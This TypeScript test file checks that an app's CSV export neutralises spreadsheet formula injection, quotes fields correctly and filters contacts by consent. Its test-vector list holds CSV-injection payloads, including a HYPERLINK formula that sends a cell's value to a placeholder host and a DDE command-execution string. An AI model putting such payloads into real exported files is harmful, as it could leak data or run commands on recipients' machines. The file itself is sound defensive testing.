// IN-1: CSV cells a spreadsheet would run are neutralised; quoting is RFC 4180; numbers stay
// numbers; and the file reads back, through the app's own CSV reader, to what was written.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { DEFAULT_CSV_LIMITS, readCsvFile, splitRecords } from '../../../shared/exchange/csv';
import { csvToStakeholders } from '../../../shared/exchange/csv-to-map';
import { tableToCsv, tableToCsvBytes } from '../../../shared/exchange/export-csv';
import { exportMap } from '../../../shared/exchange/export-map';
import { number, text, type ExportTable } from '../../../shared/exchange/export-table';
import { looksLikeFormula } from '../../../shared/exchange/spreadsheet-safety';
import { sampleMap, textOf, TODAY } from './export-fixtures';

const VECTORS = [
  '=HYPERLINK("http://x/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
  'Smith, "Jo", and co\nsecond line',
  'plain name',
];

/** Undoes the guard the way a reader of the exported file would. */
function stripGuard(cell: string): string {
  const rest = cell.slice(1);
  return cell.startsWith("'") && (looksLikeFormula(rest) || rest.startsWith("'")) ? rest : cell;
}

function table(values: readonly string[]): ExportTable {
  return { columns: [text('value'), number('influence')], rows: values.map((v, i) => [v, i - 2.5]) };
}

describe('CSV writer', () => {
  it('writes a BOM, CRLF line ends, and quotes only fields that need it', () => {
    const csv = tableToCsv({ columns: [text('name'), number('n')], rows: [['a,b', 1], ['say "hi"', null], ['two\nlines', 0.1234567]] });
    expect(csv).toBe('\uFEFFname,n\r\n"a,b",1\r\n"say ""hi""",\r\n"two\nlines",0.123457\r\n');
  });

  it.each(VECTORS)('neutralises %j and reads back to the original', (vector) => {
    const bytes = tableToCsvBytes(table([vector]));
    const written = textOf(bytes);
    if (vector !== 'plain name' && !vector.startsWith('Smith')) {
      expect(written).toContain(`'${vector.replace(/"/g, '""')}`);
    }
    const parsed = readCsvFile(bytes, 'vectors.csv');
    expect(parsed.headers).toEqual(['value', 'influence']);
    expect(stripGuard(parsed.rows[0]!.cells.get('value')!)).toBe(vector);
  });

  it('never lets a text cell start with a formula trigger, for any text', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme-composite' }), { minLength: 1, maxLength: 5 }), (values) => {
        const clean = values.map((v) => v.replace(/\0/g, ''));
        const parsed = readCsvFile(tableToCsvBytes(table(clean)), 'p.csv');
        parsed.rows.forEach((row, i) => {
          const cell = row.cells.get('value') ?? '';
          expect(looksLikeFormula(cell)).toBe(false);
          expect(stripGuard(cell)).toBe(clean[i]);
        });
      }),
      { numRuns: 200 },
    );
  });

  it('doubles a leading apostrophe, which a spreadsheet would hide', () => {
    const csv = tableToCsv(table(["'+1 from the hotline", "it's fine"]));
    expect(csv.split('\r\n').slice(1, 3)).toEqual(["''+1 from the hotline,-2.5", "it's fine,-1.5"]);
  });

  it('writes number columns as plain numbers, negative ones unguarded', () => {
    const csv = tableToCsv(table(['x', 'y', 'z', 'w']));
    expect(csv.split('\r\n').slice(1, 5)).toEqual(['x,-2.5', 'y,-1.5', 'z,-0.5', 'w,0.5']);
  });

  it('refuses text in a number column instead of writing it unguarded', () => {
    expect(() => tableToCsv({ columns: [number('n')], rows: [['=1+1']] })).toThrow(/should be a number/);
  });
});

describe('CSV lists of the sample coalition', () => {
  const map = sampleMap();
  const options = { includeConfidential: true, includeSensitive: true, today: TODAY };

  it('re-imports the stakeholder list with the same names, kinds, categories and confidential flags', () => {
    const result = exportMap(map, { ...options, format: 'csv', list: 'stakeholders' });
    const sheet = readCsvFile(result.bytes, 'stakeholders.csv');
    let n = 0;
    const back = csvToStakeholders(sheet, null, { now: '2025-06-02T00:00:00.000Z', newId: () => `n-${++n}`, sourceLabel: 'stakeholders.csv' });
    expect(back.stakeholders).toHaveLength(map.stakeholders.length);
    expect(back.stakeholders.map((s) => [s.name, s.kind, s.categories, s.confidential, s.stage, s.influence])).toEqual(
      map.stakeholders.map((s) => [s.name, s.kind, s.categories, s.confidential, s.stage, s.influence]),
    );
    // The organization column brings the works-at ties back.
    expect(back.ties.filter((t) => t.type === 'works-at')).toHaveLength(map.ties.filter((t) => t.type === 'works-at').length);
    // The figures are in the file as plain numbers, though reading the app's own list back leaves them out.
    const [header, first] = splitRecords(textOf(result.bytes).slice(1), 'stakeholders.csv', DEFAULT_CSV_LIMITS, ',');
    const figure = (name: string) => first!.cells[header!.cells.indexOf(name)];
    expect(figure('degree')).toMatch(/^\d+$/);
    expect(figure('pagerank')).toMatch(/^0\.\d+$/);
    expect(sheet.headers).not.toContain('degree');
  });

  it('lists ties by name and id, with direction, strength and trust as numbers', () => {
    const result = exportMap(map, { ...options, includeConfidential: false, includeSensitive: false, format: 'csv', list: 'ties' });
    const sheet = readCsvFile(result.bytes, 'ties.csv');
    expect(sheet.rows).toHaveLength(map.ties.length);
    const worksAt = sheet.rows.find((r) => r.cells.get('id') === 't-11')!;
    expect(Object.fromEntries(worksAt.cells)).toMatchObject({ source_id: 's-32', source: 'Rev. Imani Castell', target_id: 's-06', type: 'works-at', directed: 'yes', strength: '2' });
    // t-51 joins two hidden people: its own id would link back, so it shows a placeholder id.
    const hidden = sheet.rows.find((r) => r.cells.get('source_id') === 'confidential-1' && r.cells.get('target_id') === 'confidential-2')!;
    expect(Object.fromEntries(hidden.cells)).toMatchObject({ source: 'Confidential stakeholder 1', id: expect.stringMatching(/^confidential-tie-\d+$/) });
    expect(sheet.rows.some((r) => r.cells.get('id') === 't-51')).toBe(false);
    expect(sheet.headers).not.toContain('notes');
  });

  it('makes the stakeholder list a consent-filtered contact list when contact columns are asked for', () => {
    const result = exportMap(map, { ...options, format: 'csv', list: 'stakeholders', withContacts: true });
    const names = readCsvFile(result.bytes, 's.csv').rows.map((r) => r.cells.get('name'));
    expect(names).not.toContain('Walter Ng'); // consent expired 10 days ago
    expect(names).not.toContain('Denise K.'); // expired 45 days ago
    expect(names).toContain('Renata Voss');
    expect(names).toContain('Harlow Bend City Council'); // organizations need no personal consent
    const people = map.stakeholders.filter((s) => s.kind === 'person');
    const missing = people.filter((s) => s.consentUntil === null).length;
    const expired = people.filter((s) => s.consentUntil !== null && s.consentUntil < TODAY).length;
    expect(result.omitted).toEqual({ missingConsent: missing, expiredConsent: expired });
    expect(result.records).toBe(map.stakeholders.length - missing - expired);
  });
});
